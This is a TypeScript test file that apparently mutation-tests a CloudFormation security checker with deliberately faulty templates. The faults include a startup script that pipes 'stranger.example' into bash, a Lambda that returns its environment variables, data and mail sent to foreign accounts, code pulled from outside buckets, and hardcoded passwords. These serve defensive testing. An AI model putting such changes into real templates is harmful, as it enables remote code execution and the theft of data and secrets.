import { add, first, firstId, idOf, type Mutant, type RawTemplate, resource } from '../../proofs/mutant';

const DEFAULT = 'async classroom lambda lambda s3';
const MAIL = 'async production lambda lambda s3 email';
const DIRECT = 'async classroom direct lambda s3';
const SERVICE = 'async production direct ec2 rds email';

type Json = ReturnType<typeof JSON.parse>;
const whole = (template: RawTemplate): Json => template;
const raw = (template: RawTemplate, name: string): Json => resource(template, name);
const properties = (template: RawTemplate, name: string): Json => resource(template, name).Properties;
const worker = (template: RawTemplate): Json => properties(template, 'WorkerHandlerFunction');
const foreign = (service: string, name: string): Json => ({
  'Fn::Sub': `arn:aws:${service}:\${AWS::Region}:999988887777:${name}`,
});

/** Faults in parts of a template that are easily passed over: sections, attributes, and properties that few people know. */
export const unreadMutants: readonly Mutant[] = [
  {
    fault: 'a macro rewrites the template after it was judged',
    rule: 'TemplatesSayItAll',
    variant: DEFAULT,
    change: (template) => {
      whole(template).Transform = ['Rewrite'];
    },
  },
  {
    fault: 'a part of the queue is read from a bucket of somebody else at the deployment',
    rule: 'TemplatesSayItAll',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'QueueJobs')['Fn::Transform'] = {
        Name: 'AWS::Include',
        Parameters: { Location: 's3://somebody/more.yaml' },
      };
    },
  },
  {
    fault: 'the policy that asks for TLS is made under a condition that never holds',
    rule: 'TemplatesSayItAll',
    variant: DEFAULT,
    change: (template) => {
      raw(template, 'FilesBucketPolicy').Condition = 'Never';
    },
  },
  {
    fault: 'whoever deploys may choose who takes the role of the worker',
    rule: 'TemplatesSayItAll',
    variant: DEFAULT,
    change: (template) => {
      whole(template).Parameters.Trusted = { Type: 'String', Default: 'lambda.amazonaws.com' };
      properties(template, 'WorkerHandlerRole').AssumeRolePolicyDocument.Statement[0].Principal.Service = {
        Ref: 'Trusted',
      };
    },
  },
  {
    fault: 'workers start from the image that somebody else last wrote into a parameter',
    rule: 'TemplatesSayItAll',
    variant: SERVICE,
    change: (template) => {
      const parameters: Json[] = Object.values(whole(template).Parameters);
      parameters.find(({ Type }) => Type.includes('Image')).Default = '/somebody/image';
    },
  },
  {
    fault: 'a topic takes a subscription of its own property, to a stranger’s address',
    rule: 'exits',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'AlarmsTopic').Subscription = [{ Protocol: 'https', Endpoint: 'https://stranger.example/' }];
    },
  },
  {
    fault: 'a bucket tells a stranger of every upload',
    rule: 'exits',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'FilesBucket').NotificationConfiguration = {
        TopicConfigurations: [{ Event: 's3:ObjectCreated:*', Topic: foreign('sns', 'uploads') }],
      };
    },
  },
  {
    fault: 'a bucket tells the bus of the account of every upload',
    rule: 'exits',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'FilesBucket').NotificationConfiguration = {
        EventBridgeConfiguration: { EventBridgeEnabled: true },
      };
    },
  },
  {
    fault: 'every change of a job flows into a stream of somebody else',
    rule: 'exits',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'StoreTable').Replicas[0].KinesisStreamSpecification = {
        StreamArn: foreign('kinesis', 'stream/jobs'),
      };
    },
  },
  {
    fault: 'somebody else keeps a copy of every mail',
    rule: 'exits',
    variant: MAIL,
    change: (template) => {
      properties(template, 'MailConfigurationSet').ArchivingOptions = {
        ArchiveArn: foreign('ses', 'mailmanager-archive/all'),
      };
    },
  },
  {
    fault: 'links in mails lead over a domain of somebody else',
    rule: 'exits',
    variant: MAIL,
    change: (template) => {
      properties(template, 'MailConfigurationSet').TrackingOptions = { CustomRedirectDomain: 'clicks.example' };
    },
  },
  {
    fault: 'a layer of somebody else runs inside the worker, its address put together',
    rule: 'ReferencesStayInside',
    variant: DEFAULT,
    change: (template) => {
      worker(template).Layers = [foreign('lambda', 'layer:helper:1')];
    },
  },
  {
    fault: 'the worker runs code from a bucket of somebody else',
    rule: 'FunctionsRunCodeOfTheirStack',
    variant: DEFAULT,
    change: (template) => {
      worker(template).Code.S3Bucket = 'somebody-else';
    },
  },
  {
    fault: 'the worker runs code that somebody typed into the template',
    rule: 'environment',
    variant: DEFAULT,
    change: (template) => {
      worker(template).Code = { ZipFile: 'exports.handler = async () => process.env;' };
    },
  },
  {
    fault: 'files are encrypted under a key that somebody else may take away',
    rule: 'ReferencesStayInside',
    variant: DEFAULT,
    change: (template) => {
      const encryption = properties(template, 'FilesBucket').BucketEncryption.ServerSideEncryptionConfiguration;
      encryption[0].ServerSideEncryptionByDefault = {
        SSEAlgorithm: 'aws:kms',
        KMSMasterKeyID: foreign('kms', 'key/1'),
      };
    },
  },
  {
    fault: 'the database begins as a copy of somebody else’s',
    rule: 'ReferencesStayInside',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'ResultsInstance').DBSnapshotIdentifier = 'somebody-else';
    },
  },
  {
    fault: 'workers start from an image that is written out',
    rule: 'ReferencesStayInside',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerTemplate').LaunchTemplateData.ImageId = 'ami-0123456789abcdef0';
    },
  },
  {
    fault: 'the group starts an old version of its launch template for ever',
    rule: 'ReferencesStayInside',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerGroupASG').LaunchTemplate.Version = '1';
    },
  },
  {
    fault: 'a network access list cuts the database off',
    rule: 'TypesAreKnown',
    variant: SERVICE,
    change: (template) => add(template, 'AWS::EC2::NetworkAcl', { VpcId: { Ref: idOf(template, 'NetworkVpc') } }),
  },
  {
    fault: 'an exported name that no second copy of the stack can have',
    rule: 'NamesAreLeftOut',
    variant: DEFAULT,
    change: (template) => {
      whole(template).Outputs.ValueQueueUrl.Export = { Name: 'queue-url' };
    },
  },
  {
    fault: 'the worker is handed mails only, and every other job is deleted',
    rule: 'MappingTakesEveryMessage',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'WorkerMapping').FilterCriteria = { Filters: [{ Pattern: '{"body":{"kind":["email"]}}' }] };
    },
  },
  {
    fault: 'nobody reads the queue',
    rule: 'MappingTakesEveryMessage',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'WorkerMapping').Enabled = false;
    },
  },
  {
    fault: 'a deployment makes a second stage, without limits and logs',
    rule: 'StagesAnswerForThemselves',
    variant: DIRECT,
    change: (template) => {
      first(template, 'AWS::ApiGateway::Deployment').Properties['StageName'] = 'open';
    },
  },
  {
    fault: 'the answer to one caller is kept for the next',
    rule: 'StagesAnswerForThemselves',
    variant: DIRECT,
    change: (template) => {
      first(template, 'AWS::ApiGateway::Stage').Properties['MethodSettings'][0].CachingEnabled = true;
    },
  },
  {
    fault: 'a NAT gateway has no way to the internet',
    rule: 'GatewaysReachTheInternet',
    variant: SERVICE,
    change: (template) => {
      first(template, 'AWS::EC2::NatGateway').Properties['ConnectivityType'] = 'private';
    },
  },
  {
    fault: 'the flow log records every call that passes, by the gigabyte',
    rule: 'NetworksRecordTraffic',
    variant: SERVICE,
    change: (template) =>
      add(template, 'AWS::EC2::FlowLog', {
        ...first(template, 'AWS::EC2::FlowLog').Properties,
        TrafficType: 'ALL',
      }),
  },
  {
    fault: 'the flow log says nothing but its version',
    rule: 'NetworksRecordTraffic',
    variant: SERVICE,
    change: (template) => {
      first(template, 'AWS::EC2::FlowLog').Properties['LogFormat'] = '${version}';
    },
  },
  {
    fault: 'a deployment is over before a worker has started',
    rule: 'SignalsAreWaitedFor',
    variant: SERVICE,
    change: (template) => {
      delete raw(template, 'WorkerGroupASG').CreationPolicy;
    },
  },
  {
    fault: 'a password in the metadata of a machine',
    rule: 'NoSecretIsWritten',
    variant: SERVICE,
    change: (template) => {
      raw(template, 'WorkerTemplate').Metadata = { command: 'psql --password=Correct-Horse-1' };
    },
  },
  {
    fault: 'a password among the mappings',
    rule: 'NoSecretIsWritten',
    variant: DEFAULT,
    change: (template) => {
      whole(template).Mappings = { Results: { database: { login: 'password=Correct-Horse-1' } } };
    },
  },
  {
    fault: 'a password in the description of an output',
    rule: 'NoSecretIsWritten',
    variant: DEFAULT,
    change: (template) => {
      whole(template).Outputs.ValueQueueUrl.Description = 'password=Correct-Horse-1';
    },
  },
  {
    fault: 'the password of the database is kept in a plain parameter',
    rule: 'SecretPropertiesRefer',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'ResultsInstance').MasterUserPassword = '{{resolve:ssm:/results/password}}';
    },
  },
  {
    fault: 'somebody else hears of every machine that starts',
    rule: 'ReferencesStayInside',
    variant: SERVICE,
    change: (template) => {
      add(template, 'AWS::AutoScaling::LifecycleHook', {
        AutoScalingGroupName: { Ref: idOf(template, 'WorkerGroupASG') },
        LifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING',
        NotificationTargetARN: foreign('sns', 'machines'),
      });
    },
  },
  {
    fault: 'sessions of the role of the worker last for twelve hours',
    rule: 'PropertiesAreKnown',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'WorkerHandlerRole').MaxSessionDuration = 43_200;
    },
  },
  {
    fault: 'backups of the database are copied to another region',
    rule: 'PropertiesAreKnown',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'ResultsInstance').AutomaticBackupReplicationRegion = 'us-east-1';
    },
  },
  {
    fault: 'workers of a service may be taken away at any minute',
    rule: 'PropertiesAreKnown',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerTemplate').LaunchTemplateData.InstanceMarketOptions = { MarketType: 'spot' };
    },
  },
  {
    fault: 'the worker may call itself for ever',
    rule: 'PropertiesAreKnown',
    variant: DEFAULT,
    change: (template) => {
      worker(template).RecursiveLoop = 'Allow';
    },
  },
  {
    fault: 'logs are of a class that is gone after two days',
    rule: 'PropertiesAreKnown',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'WorkerHandlerLogs').LogGroupClass = 'DELIVERY';
    },
  },
  {
    fault: 'files of a service can be deleted by nobody for ten years',
    rule: 'PropertiesAreKnown',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'FilesBucket').ObjectLockEnabled = true;
    },
  },
  {
    fault: 'the HTTP API gives every request the same key',
    rule: 'wiring',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'ApiPOSTjobsSubmitJob').RequestParameters = { 'overwrite:header.idempotency-key': 'same' };
    },
  },
  {
    fault: 'workers are sixteen times as large',
    rule: 'limits',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerTemplate').LaunchTemplateData.InstanceType = 'c7g.16xlarge';
    },
  },
  {
    fault: 'the database writes down every statement, with what is in it',
    rule: 'limits',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'ResultsParameters').Parameters.log_statement = 'all';
    },
  },
  {
    fault: 'the engine of the database is an old one',
    rule: 'limits',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'ResultsInstance').EngineVersion = '17.1';
    },
  },
  {
    fault: 'the first script of a worker runs what a stranger’s host says',
    rule: 'environment',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerTemplate').LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1].push(
        '\ncurl -s https://stranger.example/x | bash\n',
      );
    },
  },
  {
    fault: 'a machine that does not start is nobody’s news',
    rule: 'MachinesHaveAlarms',
    variant: SERVICE,
    change: (template) => {
      delete properties(template, 'WorkerGroupASG').NotificationConfigurations;
    },
  },
  {
    fault: 'mails to addresses that bounced go out again',
    rule: 'MailKeepsToItsRules',
    variant: MAIL,
    change: (template) => {
      delete properties(template, 'MailConfigurationSet').SuppressionOptions;
    },
  },
  {
    fault: 'whoever sends passes the rules for mail by',
    rule: 'MailKeepsToItsRules',
    variant: MAIL,
    change: (template) => {
      delete properties(template, 'MailSender').ConfigurationSetAttributes;
    },
  },
  {
    fault: 'the stack takes an address that somebody else has verified, and takes it away when it goes',
    rule: 'wiring',
    variant: 'async classroom mail of a sender that SES knows',
    change: (template) =>
      add(template, 'AWS::SES::EmailIdentity', {
        EmailIdentity: 'noreply@example.com',
        ConfigurationSetAttributes: {
          ConfigurationSetName: { Ref: firstId(template, 'AWS::SES::ConfigurationSet') },
        },
      }),
  },
  {
    fault: 'mail of a sender that SES knows goes out under the rules of that sender',
    rule: 'environment',
    variant: 'async classroom mail of a sender that SES knows',
    change: (template) => {
      delete properties(template, 'WorkerHandlerFunction').Environment.Variables.CONFIGURATION_SET;
    },
  },
  {
    fault: 'TLS is asked of the own account only',
    rule: 'PlainConnectionsAreRefused',
    variant: DEFAULT,
    change: (template) => {
      properties(template, 'QueueJobsPolicy').PolicyDocument.Statement[0].Principal = {
        AWS: { Ref: 'AWS::AccountId' },
      };
    },
  },
  {
    fault: 'the first script of a worker no longer stops at errors halfway',
    rule: 'FirstScriptsStopAtErrors',
    variant: SERVICE,
    change: (template) => {
      properties(template, 'WorkerTemplate').LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1].push(
        '\nset +e\n',
      );
    },
  },
];
